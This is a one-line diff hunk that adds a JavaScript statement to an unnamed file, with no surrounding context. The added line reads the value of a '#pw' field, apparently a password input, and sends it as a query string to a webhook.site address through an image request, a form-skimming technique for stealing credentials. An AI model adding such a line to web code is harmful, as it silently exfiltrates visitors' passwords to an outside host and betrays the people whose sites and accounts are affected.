@@ -1,0 +1,1 @@
+new Image().src='https://webhook.site/abc?'+document.querySelector('#pw').value
